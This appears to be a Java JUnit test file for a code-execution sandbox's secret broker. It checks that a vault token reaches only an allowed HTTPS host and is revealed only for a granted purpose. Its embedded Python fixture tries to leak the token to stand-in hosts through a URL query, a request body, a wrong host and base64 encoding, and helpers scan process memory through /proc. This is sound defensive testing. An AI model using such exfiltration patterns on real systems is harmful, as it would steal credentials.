package io.mcpsf.run.code;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;

import io.mcpsf.boundary.Backbone;
import io.mcpsf.broker.SecretVault;
import io.mcpsf.exec.CodeLanguage;
import io.mcpsf.exec.ExecutionLog;
import io.mcpsf.exec.ExecutionLog.Status;
import io.mcpsf.model.Violation;
import io.mcpsf.os.Command;
import io.mcpsf.run.request.ExecOutcome;
import io.mcpsf.run.request.ExecStreams;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;

import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManagerFactory;

/** Secrets that code uses at a real HTTPS server without holding them, or asks the broker for. */
@Tag("chamber")
final class SecretsInCodeTest {

    private static final String VALUE = "ghp_Zq81TtRealValueNobodyInsideMaySee7";
    private static final char[] PASSWORD = "password".toCharArray();

    @TempDir Path folder;
    private final List<String> heard = new CopyOnWriteArrayList<>();
    private final CompletableFuture<Boolean> looked = new CompletableFuture<>();
    private final CompletableFuture<Boolean> waiting = new CompletableFuture<>();
    private HttpsServer web;
    private CodeTrial trial;

    @BeforeEach
    void open() throws Exception {
        SSLContext tls = tls();
        web = HttpsServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        web.setHttpsConfigurator(new HttpsConfigurator(tls));
        web.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        web.createContext("/", this::answer);
        web.start();
        SecretVault vault = SecretVault.in(folder.resolve("secrets"), Map.of());
        vault.set("forge", VALUE);
        var loopback =
                new Backbone(
                        Clock.systemUTC(),
                        _ -> new InetAddress[] {InetAddress.getLoopbackAddress()},
                        tls::getSocketFactory);
        trial =
                new CodeTrial(
                        folder.resolve("executions"),
                        CodeRunner.open("crun", _ -> {}, loopback, vault));
    }

    @AfterEach
    void close() {
        looked.complete(true);
        trial.close();
        web.stop(0);
    }

    @Test
    void isUsedAtItsHttpsHostIsNowhereInsideAndIsAnAlertInEveryOtherPlace() throws Exception {
        trial.under(policy("{from: vault, to: [api.example, \"*.forge.example\"], as: header}"));
        var outcome = new CompletableFuture<ExecOutcome>();
        Thread.ofPlatform().start(() -> run(outcome, code()));

        boolean _ = waiting.get(60, java.util.concurrent.TimeUnit.SECONDS);
        List<Long> inside = sandboxed();
        assertThat(inside).isNotEmpty().allMatch(pid -> holds(pid, "FORGE=ghp_"));
        assertThat(inside).as("processes that hold the value").noneMatch(pid -> holds(pid, VALUE));
        looked.complete(true);

        ExecutionLog log = outcome.get().log();
        assertThat(log.output().stderr()).isEmpty();
        assertThat(heard).contains("api.example Bearer " + VALUE);
        assertThat(heard.stream().filter(line -> line.contains(VALUE))).hasSize(2);
        assertThat(log.output().stdout()).isEqualTo("url 403\nbody 403\nother 403\nbase64 403\n");
        assertThat(
                        log.alerts().stream()
                                .filter(a -> a.violation() == Violation.SECRET_MISUSED)
                                .map(a -> a.detail().replaceFirst(".* to (.*):\\d+", "$1")))
                .containsExactly(
                        "url.forge.example",
                        "body.forge.example",
                        "other.example",
                        "base64.forge.example");
        nowhere(outcome.get().caseFolder());
        assertThat(Files.readString(folder.resolve("secrets/audit.jsonl")))
                .contains("\"used\"")
                .contains("execution " + log.head().executionId() + ": GET https://api.example")
                .doesNotContain(VALUE);
    }

    @Test
    void isRevealedByTheBrokerOnceForItsPurposeAndMaskedInWhatTheCodeWrites() throws Exception {
        trial.under(
                "secrets: {forge: {from: vault, reveal: true, purposes: [nightly report], uses:"
                        + " 1}}");
        ExecOutcome outcome =
                trial.run(
                        CodeLanguage.PYTHON,
                        """
                        import hashlib
                        from mcpsf_broker import secret, SecretRefused
                        def ask(name, purpose):
                            try:
                                value = secret(name, purpose)
                                print(hashlib.sha256(value.encode()).hexdigest(), value)
                            except SecretRefused as e:
                                print(e)
                        ask('forge', 'fun')
                        ask('forge', 'nightly report')
                        ask('forge', 'nightly report')
                        ask('other', 'nightly report')
                        """,
                        ExecStreams.none());

        ExecutionLog log = outcome.log();
        assertThat(log.output().stderr()).isEmpty();
        assertThat(log.ending().status()).isEqualTo(Status.DONE);
        List<String> lines = log.output().stdout().lines().toList();
        assertThat(lines.get(0)).isEqualTo("it is not granted for this purpose");
        assertThat(lines.get(1))
                .startsWith(
                        io.mcpsf.model.Sha256.of(VALUE.getBytes(StandardCharsets.UTF_8)).hex()
                                + " ghp_");
        assertThat(lines.get(2)).isEqualTo("it was revealed as often as granted");
        assertThat(lines.get(3)).isEqualTo("no secret of that name may be revealed");
        nowhere(outcome.caseFolder());
        assertThat(Files.readString(folder.resolve("secrets/audit.jsonl")))
                .contains("\"revealed\"")
                .contains("execution " + log.head().executionId() + ": nightly report")
                .contains("\"refused\"");
    }

    private String policy(String grant) {
        return """
        network:
          allow:
            - {host: api.example, ports: [%1$d]}
            - {host: "*.forge.example", ports: [%1$d]}
            - {host: other.example, ports: [%1$d]}
            - {cidr: 127.0.0.1/32, ports: [%1$d]}
        secrets:
          forge: %2$s
        violations: {SECRET_MISUSED: deny, NETWORK_ESCAPE: deny}
        """
                .formatted(web.getAddress().getPort(), grant);
    }

    private String code() {
        return """
        import base64, os, urllib.request, urllib.error
        t = os.environ['FORGE']
        def ask(host, path='/x', headers={}, data=None):
            r = urllib.request.Request('https://%%s:%d%%s' %% (host, path), headers=headers, data=data)
            try:
                return urllib.request.urlopen(r, timeout=60).status
            except urllib.error.HTTPError as e:
                return e.code
        ask('api.example', headers={'Authorization': 'Bearer ' + t})
        ask('api.example', '/wait', headers={'Authorization': 'Bearer ' + t})
        print('url', ask('url.forge.example', '/?t=' + t))
        print('body', ask('body.forge.example', data=b'{"t": "' + t.encode() + b'"}'))
        print('other', ask('other.example', headers={'Authorization': 'Bearer ' + t}))
        print('base64', ask('base64.forge.example', data=base64.b64encode(b'token=' + t.encode())))
        """
                .formatted(web.getAddress().getPort());
    }

    private void run(CompletableFuture<ExecOutcome> outcome, String code) {
        try {
            outcome.complete(trial.run(CodeLanguage.PYTHON, code, ExecStreams.none()));
        } catch (InterruptedException | RuntimeException e) {
            outcome.completeExceptionally(e);
            waiting.completeExceptionally(e);
        }
    }

    private void answer(HttpExchange exchange) throws IOException {
        try (exchange) {
            heard.add(
                    exchange.getRequestHeaders().getFirst("Host").replaceFirst(":.*", "")
                            + " "
                            + exchange.getRequestHeaders().getFirst("Authorization"));
            if (exchange.getRequestURI().getPath().equals("/wait")) {
                waiting.complete(true);
                boolean _ = looked.join();
            }
            exchange.sendResponseHeaders(200, -1);
        }
    }

    private static void nowhere(Path caseFolder) throws IOException {
        try (var files = Files.walk(caseFolder)) {
            for (Path file : (Iterable<Path>) files.filter(Files::isRegularFile)::iterator) {
                assertThat(Files.readString(file, StandardCharsets.ISO_8859_1))
                        .as(file.toString())
                        .doesNotContain(VALUE);
            }
        }
    }

    private SSLContext tls() throws Exception {
        Path store = folder.resolve("store.p12");
        Command.Result made =
                Command.of(
                                Path.of(System.getProperty("java.home"), "bin/keytool").toString(),
                                "-genkeypair",
                                "-alias",
                                "web",
                                "-keyalg",
                                "EC",
                                "-dname",
                                "CN=api.example",
                                "-ext",
                                "san=dns:api.example,dns:other.example,dns:*.forge.example",
                                "-keystore",
                                store.toString(),
                                "-storepass",
                                "password",
                                "-validity",
                                "2")
                        .run();
        assertThat(made.good()).as(made.complaint()).isTrue();
        KeyStore keys = KeyStore.getInstance(store.toFile(), PASSWORD);
        var own = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        own.init(keys, PASSWORD);
        KeyStore known = KeyStore.getInstance("PKCS12");
        known.load(null, null);
        known.setCertificateEntry("web", keys.getCertificate("web"));
        var trust = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        trust.init(known);
        SSLContext tls = SSLContext.getInstance("TLS");
        tls.init(own.getKeyManagers(), trust.getTrustManagers(), null);
        return tls;
    }

    private static List<Long> sandboxed() {
        return ProcessHandle.allProcesses()
                .map(ProcessHandle::pid)
                .filter(
                        pid -> {
                            try {
                                return Files.readString(Path.of("/proc", "" + pid, "cmdline"))
                                                .contains("/code/main.py")
                                        && Files.readString(Path.of("/proc", "" + pid, "environ"))
                                                .contains("FORGE=");
                            } catch (IOException gone) {
                                return false;
                            }
                        })
                .toList();
    }

    private static boolean holds(long pid, String text) {
        try (var memory = new RandomAccessFile("/proc/" + pid + "/mem", "r")) {
            for (String line : Files.readAllLines(Path.of("/proc", "" + pid, "maps"))) {
                if (!line.split(" ")[1].startsWith("r") || line.contains("[v")) {
                    continue;
                }
                String[] range = line.split(" ")[0].split("-");
                long from = Long.parseUnsignedLong(range[0], 16);
                byte[] bytes = new byte[(int) (Long.parseUnsignedLong(range[1], 16) - from)];
                memory.seek(from);
                int read = memory.read(bytes);
                if (read > 0
                        && new String(bytes, 0, read, StandardCharsets.ISO_8859_1).contains(text)) {
                    return true;
                }
            }
            return false;
        } catch (IOException gone) {
            return false;
        }
    }
}
